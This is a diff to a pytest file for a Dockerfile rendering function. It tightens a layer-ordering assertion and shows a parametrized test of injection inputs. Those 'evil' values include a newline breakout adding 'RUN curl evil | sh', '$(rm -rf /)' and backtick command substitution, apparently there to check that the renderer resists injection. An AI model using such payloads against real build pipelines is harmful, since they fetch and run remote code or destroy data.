@@ -43,7 +43,7 @@ def test_layers_are_ordered_slowest_first():
     text = render_dockerfile("runtime", **CASES["runtime"])
     assert text.index("layers/00-torch") < text.index("layers/01-rest") < text.index("COPY --chown=0:0 swcli/")
     model = render_dockerfile("model", **CASES["model"])
-    assert model.index("weights/") < model.index("code/") < model.index("manifest.json")
+    assert model.index("COPY --chown=0:0 weights/") < model.index("COPY --chown=0:0 code/") < model.index("COPY --chown=0:0 meta/")
 
 
 @pytest.mark.parametrize("evil", ['x"\nRUN curl evil | sh\nLABEL a="', "$(rm -rf /)", "a\\\nRUN x", "`id`"])
